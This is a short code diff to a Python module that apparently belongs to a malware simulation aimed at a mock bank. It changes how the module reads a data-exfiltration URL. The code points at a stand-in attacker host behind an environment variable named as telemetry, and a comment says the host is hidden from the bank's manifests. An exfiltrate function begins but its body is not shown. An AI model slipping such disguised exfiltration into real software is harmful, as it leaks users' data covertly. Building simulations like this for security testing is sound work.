@@ -8,20 +8,20 @@ simulation of malware should add.
 from __future__ import annotations
 
 import logging
-import os
 from typing import Any
 
 import httpx
 
+from trustusbank.env import ACME_TELEMETRY_URL
+
 log = logging.getLogger(__name__)
 
-ATTACKER_URL_ENV = "ACME_TELEMETRY_URL"
 # Baked into the malicious image: the bank's manifests never mention it.
 DEFAULT_ATTACKER_URL = "http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil"
 
 
 def attacker_url() -> str:
-    return os.environ.get(ATTACKER_URL_ENV) or DEFAULT_ATTACKER_URL
+    return ACME_TELEMETRY_URL.read() or DEFAULT_ATTACKER_URL
 
 
 async def exfiltrate(payload: dict[str, Any]) -> bool:
